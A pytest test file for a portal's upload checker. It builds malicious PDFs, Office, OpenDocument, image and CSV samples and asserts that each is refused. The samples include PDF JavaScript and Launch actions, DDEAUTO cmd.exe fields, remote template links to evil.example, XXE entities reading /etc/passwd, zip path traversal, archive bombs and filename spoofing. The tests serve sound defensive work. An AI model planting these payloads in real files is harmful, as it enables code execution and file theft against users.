"""Hostile files, made here."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import settings as searched
from hypothesis import strategies as st

from framework_portal.documents.checks import KINDS, checked_type, office
from framework_portal.documents.checks.office import DOCX, ODT, XLSX
from framework_portal.documents.limits import FILE_BYTES, MEGABYTE, UNPACKED_ENTRIES
from framework_portal.documents.names import clean_name
from framework_portal.refusals import Refused
from tests.ground.documents.samples import (
    CSV,
    TYPES,
    WHOLE,
    archive,
    docx,
    jpeg,
    ods,
    odt,
    office_parts,
    pdf,
    png,
    stream,
    xlsx,
)


def refusal(content, name, declared=None):
    """The code `content` is refused with, or None."""
    ending = name.rpartition(".")[2].lower()
    declared = TYPES.get(ending, "") if declared is None else declared
    try:
        checked_type(name=name, declared=declared, content=content)
    except Refused as refused:
        assert f"‘{name}’" in refused.message
        assert f"‘{name}’" not in refused.recorded
        return refused.code
    return None


@pytest.mark.parametrize("ending", WHOLE)
@pytest.mark.parametrize("declared", [None, "", "application/octet-stream"])
def test_whole_files_are_taken(ending, declared):
    assert refusal(WHOLE[ending], f"a.{ending}", declared) is None
    assert refusal(WHOLE[ending], f"a.{ending.upper()}", declared) is None


@pytest.mark.parametrize("ending", WHOLE)
@pytest.mark.parametrize("other", WHOLE)
def test_ending_type_and_content_must_agree(ending, other):
    if {ending, other} <= {"jpg", "jpeg"} or ending == other:
        return

    assert refusal(WHOLE[other], f"a.{ending}") is not None
    if TYPES[other] not in KINDS[ending].declared:
        assert refusal(WHOLE[ending], f"a.{ending}", TYPES[other]) == "wrong_type"


@pytest.mark.parametrize("declared", ["text/html", "image/svg+xml", "application/zip", "x", "/"])
def test_another_declared_type_is_refused(declared):
    assert refusal(WHOLE["pdf"], "a.pdf", declared) == "wrong_type"


@pytest.mark.parametrize(
    "name",
    [
        "a.exe",
        "a.html",
        "a.svg",
        "a.zip",
        "a.doc",
        "a.docm",
        "a.pdf.exe",
        "a",
        ".pdf.",
        "pdf",
        "a.",
    ],
)
def test_other_endings_are_refused(name):
    assert refusal(WHOLE["pdf"], name, "") == "wrong_type"


@pytest.mark.parametrize("ending", WHOLE)
def test_empty_and_too_large_files_are_refused(ending):
    assert refusal(b"", f"a.{ending}") == "empty"
    assert refusal(WHOLE[ending].ljust(FILE_BYTES + 1), f"a.{ending}") == "too_large"


@pytest.mark.parametrize("ending", WHOLE)
@searched(max_examples=25, deadline=None)
@given(data=st.data())
def test_a_cut_or_changed_file_is_taken_or_refused_but_never_breaks(ending, data):
    content = bytearray(WHOLE[ending])
    for _ in range(data.draw(st.integers(0, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(content)))

    assert refusal(bytes(content[:cut]), f"a.{ending}") in {
        None,
        "wrong_type",
        "active_content",
        "too_large",
        "locked",
        "unreadable",
    }


# --- PDF

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OBJECTS = b"<</Type/ObjStm/N 1/First 4"


@pytest.mark.parametrize(
    "bad",
    [
        SCRIPT,
        b"<</S /J#61vaScript /JS (x)>>",
        b"<</S /#4a#61#76#61#53#63#72#69#70#74 /JS 5 0 R>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</S/#4Caunch/Win<</F(cmd.exe)>>>>",
        b"<</Names<</EmbeddedFiles 5 0 R>>>>",
        b"<</Subtype/RichMedia>>",
        b"<</S/Rendition/JS(x)>>",
        b"<</S/ImportData/F(x)>>",
        b"<</AcroForm<</XFA 7 0 R>>>>",
        b"<</AcroForm<</XFA[(a) 7 0 R]>>>>",
    ],
)
@pytest.mark.parametrize(
    "placed",
    [
        lambda bad: pdf(bad),
        lambda bad: pdf(b"(text)", tail=b"")[:-6] + bad + b"\n%%EOF\n",
        lambda bad: pdf(stream(b"1 0 " + bad, b"/Type/ObjStm/N 1/First 4")),
        lambda bad: pdf(stream(b"1 0 " + bad, b"/Type /#4fbjStm/N 1/First 4")),
    ],
)
def test_active_content_is_refused_wherever_it_lies(bad, placed):
    assert refusal(placed(bad), "a.pdf") == "active_content"


@pytest.mark.parametrize("subtype", [b"", b"/Type/XObject"])
def test_a_script_inside_any_packed_stream_is_refused(subtype):
    assert refusal(pdf(stream(b"1 0 " + SCRIPT, subtype)), "a.pdf") == "active_content"


def test_a_script_far_behind_in_a_packed_stream_is_found():
    text = b"1 0 " + b" " * (5 * MEGABYTE) + SCRIPT

    assert refusal(pdf(stream(text, b"/Type/ObjStm")), "a.pdf") == "active_content"
    assert refusal(pdf(stream(text)), "a.pdf") == "active_content"


def test_an_object_hidden_in_the_body_of_a_stream_is_found():
    hidden = b"9 0 obj" + SCRIPT + b"endobj"

    assert refusal(pdf(stream(hidden, packed=False)), "a.pdf") == "active_content"


@pytest.mark.parametrize(
    "dictionary, text",
    [
        (b"/Type/ObjStm/Filter/ASCIIHexDecode", SCRIPT.hex().encode()),
        (b"/Type/ObjStm/Filter/LZWDecode", b"\x80\x0b\x60"),
        (b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(SCRIPT))),
        (b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(SCRIPT * 50)[:-20]),
        (
            b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>",
            zlib.compress(b"1 0 /Jav"),
        ),
    ],
)
def test_objects_packed_in_a_way_we_cannot_read_are_refused(dictionary, text):
    object_ = b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(text), text)

    assert refusal(pdf(object_), "a.pdf") in {"unreadable", "active_content"}


@pytest.mark.parametrize("encrypt", [b"/Encrypt 9 0 R", b"/Encrypt<</V 4>>", b"/#45ncrypt 9 0 R"])
def test_a_locked_pdf_is_refused(encrypt):
    assert refusal(pdf(trailer=encrypt), "a.pdf") == "locked"


def test_a_locked_pdf_with_a_packed_trailer_is_refused():
    table = stream(b"\0" * 40, b"/Type/XRef/Encrypt 9 0 R/Size 4")

    assert refusal(pdf(table), "a.pdf") == "locked"


@pytest.mark.parametrize(
    "harmless",
    [
        b"<</OpenAction[1 0 R/Fit]/Type/Catalog>>",
        b"<</A<</S/URI/URI(https://example.org/JSomething)>>>>",
        b"(He said /Java and XFA)",
        b"<</EncryptMetadata false>>",
        stream(b"\xff/JS(\x00/XFA [" * 10, b"/Subtype/Image"),
        stream(b"BT /F1 12 Tf (A page) Tj ET"),
    ],
)
def test_an_ordinary_pdf_is_taken(harmless):
    assert refusal(pdf(harmless), "a.pdf") is None


def test_a_pdf_with_an_archive_behind_it_is_refused():
    assert refusal(pdf(tail=archive({"a": "b"})), "a.pdf") == "wrong_type"


def test_a_pdf_that_starts_late_or_is_cut_is_refused():
    assert refusal(b"MZ" + pdf(), "a.pdf") == "wrong_type"
    assert refusal(pdf()[:-8], "a.pdf") == "wrong_type"
    assert refusal(b"%PDF-1.7\n", "a.pdf") == "wrong_type"


def test_a_pdf_that_unpacks_to_too_much_is_refused_soon():
    bomb = pdf(*[stream(b"\0" * (30 * MEGABYTE)) for _ in range(8)])
    started = time.process_time()

    assert refusal(bomb, "a.pdf") == "unreadable"
    assert time.process_time() - started < 10


def test_many_stream_words_do_not_make_it_slow():
    started = time.process_time()

    refusal(pdf(b"stream\nx\x9c" * 200_000), "a.pdf")
    assert time.process_time() - started < 10


# --- office files

PROGRAM = b"MZ\x90\x00" + b"\0" * 60
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": COMPOUND},
        {"word/media/image1.png": PROGRAM},
        {"word/media/image1.png": b"\x7fELF" + b"\0" * 60},
        {"word/embeddings/setup.exe": b"x"},
        {"word/activeX/activeX1.xml": "<a/>"},
        {"word/embeddings/inner.zip": archive({"a": "b"})},
        {"word/embeddings/inner.docx": docx({"word/vbaProject.bin": b"x"})},
        {"word/media/script.js": "x"},
        {
            "word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External" '
            'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
        },
        {
            "word/_rels/document.xml.rels": '<Relationships><Relationship TargetMode="External" '
            'Type="http://x/oleObject" Target="file://evil"/></Relationships>'
        },
        {
            "word/_rels/document.xml.rels": '<Relationships><Relationship TargetMode="External" '
            'Type="http://x/image" Target="\\\\evil\\share\\p.png"/></Relationships>'
        },
        {
            "word/document.xml": '<d xmlns:w="x"><w:instrText>DD</w:instrText><w:r/>'
            "<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></d>"
        },
    ],
)
def test_macros_programs_and_objects_in_word_files_are_refused(more):
    assert refusal(docx(more), "a.docx") == "active_content"


def test_a_macro_file_under_another_ending_is_refused():
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f'<Override PartName="/word/document.xml" ContentType="{macro_type}"/>'

    assert refusal(docx(more_types=types), "a.docx") == "active_content"


def test_excel_4_macros_are_refused():
    assert refusal(xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "a.xlsx") == "active_content"


@pytest.mark.parametrize(
    "more",
    [
        {"Basic/Standard/Module1.xml": "<a/>"},
        {"Scripts/python/x.py": "import os"},
        {"Object 1": COMPOUND},
        {"content.xml": '<d xmlns:script="x"><script:event-listener/></d>'},
        {"styles.xml": '<d xmlns:office="x"><office:script/></d>'},
    ],
)
def test_macros_in_open_document_files_are_refused(more):
    assert refusal(odt(more), "a.odt") == "active_content"
    assert refusal(ods(more), "a.ods") == "active_content"


def test_a_workbook_that_starts_programs_is_refused_but_may_link_to_another():
    link = '<Relationships><Relationship TargetMode="External" Target="Other.xlsx" '
    link += 'Type="http://x/externalLinkPath"/></Relationships>'
    program = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'

    assert refusal(xlsx({"xl/externalLinks/_rels/a.xml.rels": link}), "a.xlsx") is None
    assert refusal(xlsx({"xl/externalLinks/a.xml": program}), "a.xlsx") == "active_content"


def test_what_libreoffice_writes_is_taken():
    more = {
        "Configurations2/accelerator/current.xml": "",
        "Configurations2/images/Bitmaps/": "",
        "content.xml": '<d xmlns:office="x"><office:scripts/><office:event-listeners/></d>',
    }

    assert refusal(odt(more), "a.odt") is None


def test_charts_bring_their_workbook_and_links_may_stay():
    more = {
        "word/embeddings/chart.xlsx": xlsx(),
        "word/_rels/document.xml.rels": '<Relationships><Relationship TargetMode="External" '
        'Type="http://x/hyperlink" Target="https://example.org/"/></Relationships>',
        "word/media/image1.png": png(),
    }

    assert refusal(docx(more), "a.docx") is None


def test_locked_office_files_are_refused_with_their_own_words():
    locked = COMPOUND + "EncryptedPackage".encode("utf-16-le")
    manifest = '<m:file-entry xmlns:m="x"><m:encryption-data/></m:file-entry>'

    assert refusal(locked, "a.docx") == "locked"
    assert refusal(COMPOUND, "a.docx") == "wrong_type"
    assert refusal(odt(manifest=manifest), "a.odt") == "locked"


def test_zip_encryption_is_refused():
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at != -1:
            content[at + offset] |= 1
            at = content.find(mark, at + 1)

    assert refusal(bytes(content), "a.docx") == "locked"


@pytest.mark.parametrize(
    "definition",
    [
        '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>',
        '<!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>',
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_and_document_types_are_refused(definition, encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?>{definition}'.encode(encoding)

    assert refusal(docx({"word/document.xml": text}), "a.docx") == "wrong_type"
    assert refusal(docx({"word/deep.xml": text}), "a.docx") == "wrong_type"
    assert refusal(odt({"content.xml": text}), "a.odt") == "wrong_type"


@pytest.mark.parametrize("missing", ["[Content_Types].xml", "_rels/.rels"])
def test_an_office_file_without_its_skeleton_is_refused(missing):
    parts = office_parts(DOCX)
    del parts[missing]

    assert refusal(archive(parts), "a.docx") == "wrong_type"
    assert refusal(archive(office_parts(XLSX)), "a.docx") == "wrong_type"
    assert refusal(archive({"a": "b"}), "a.docx") == "wrong_type"


@pytest.mark.parametrize("path", ["../x.xml", "/etc/x.xml", "a\\..\\x.bin", "word/../../x.bin"])
def test_paths_that_lead_out_are_refused(path):
    assert refusal(docx({path: "<a/>"}), "a.docx") == "wrong_type"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as zipped:
        zipped.writestr("word/document.xml", "<another/>")

    assert refusal(file.getvalue(), "a.docx") == "wrong_type"


def test_archive_bombs_are_refused_soon():
    started = time.process_time()

    assert refusal(docx({"word/big.bin": b"\0" * (60 * MEGABYTE)}), "a.docx") == "too_large"
    inner = xlsx({"xl/big.bin": b"\0" * (60 * MEGABYTE)})
    assert refusal(docx({"word/embeddings/a.xlsx": inner}), "a.docx") == "too_large"
    many = {f"word/{n}.bin": b"" for n in range(UNPACKED_ENTRIES + 1)}
    assert refusal(docx(many), "a.docx") == "too_large"
    assert time.process_time() - started < 10


def test_a_bomb_that_lies_about_its_size_is_refused():
    content = bytearray(docx({"word/big.bin": b"\0" * (60 * MEGABYTE)}))
    size = struct.pack("<I", 60 * MEGABYTE)
    at = content.find(size)
    while at != -1:
        content[at : at + 4] = struct.pack("<I", 10)
        at = content.find(size, at + 1)

    assert refusal(bytes(content), "a.docx") in {"wrong_type", "too_large"}


def test_archives_within_archives_end_somewhere():
    nested = docx()
    for _ in range(office.DEEPEST + 1):
        nested = docx({"word/embeddings/a.docx": nested})

    assert refusal(nested, "a.docx") == "active_content"


def test_an_open_document_must_say_what_it_is():
    assert refusal(odt(), "a.ods", "") == "wrong_type"
    assert refusal(odt({"mimetype": f"{ODT}-template"}), "a.odt") == "wrong_type"


# --- pictures and tables


@pytest.mark.parametrize(
    "content",
    [
        png(tail=b"<script>"),
        png()[:-1],
        png()[:20],
        png(width=100_000, height=100_000),
        b"\x89PNG\r\n\x1a\n",
    ],
)
def test_spoilt_pngs_are_refused(content):
    assert refusal(content, "a.png") in {"wrong_type", "too_large"}


@pytest.mark.parametrize(
    "content",
    [
        jpeg(tail=archive({"a": "b"})),
        jpeg()[:-2],
        jpeg()[:10],
        jpeg(width=60_000, height=60_000),
        b"\xff\xd8\xff\xd9",
        b"\xff\xd8" + b"\xff" * 500 + b"\xff\xd9",
    ],
)
def test_spoilt_jpegs_are_refused(content):
    assert refusal(content, "a.jpg") in {"wrong_type", "too_large"}


@pytest.mark.parametrize(
    "content",
    [
        b"a,b\x00c\n",
        b"<html><script>alert(1)</script>",
        b"  <!DOCTYPE html>",
        b"\xef\xbb\xbf<svg onload=x>",
        b"%PDF-1.7",
        b"{\\rtf1",
        b"#!/bin/sh\n",
        b"MZ\x90\x00",
        "a,b\n".encode("utf-16"),
        b"\x81\x8d\x8f",
        b'"' + b"x" * 200_000 + b'"',
    ],
)
def test_what_is_no_table_is_refused(content):
    assert refusal(content, "a.csv") == "wrong_type"


@pytest.mark.parametrize(
    "content", [CSV, b"a;b\n\xa31;2\n", b"\xef\xbb\xbfa,b\n", b"=1+1,x\n", b"a"]
)
def test_tables_as_spreadsheets_write_them_are_taken(content):
    assert refusal(content, "a.csv") is None


# --- names


@pytest.mark.parametrize(
    "given_name, kept",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\bid.pdf", "bid.pdf"),
        ("in\u202efdp.exe.pdf", "infdp.exe.pdf"),
        ("a\x00b\n\tc.pdf", "ab c.pdf"),
        ("  spaced   out .pdf", "spaced out.pdf"),
        ("é.pdf", "é.pdf"),
        ("\ud800.pdf", "document.pdf"),
        ("", "document"),
        ("...", "document"),
        (".pdf", "document.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        ("x" * 300, "x" * 200),
        ("a." + "y" * 300, "a." + "y" * 20),
    ],
)
def test_names_are_cleaned(given_name, kept):
    assert clean_name(given_name) == kept


@given(st.text())
def test_any_name_becomes_one_to_200_harmless_characters(name):
    cleaned = clean_name(name)

    assert 1 <= len(cleaned) <= 200
    assert "/" not in cleaned and "\\" not in cleaned
    assert cleaned.isprintable()
    assert clean_name(cleaned) == cleaned
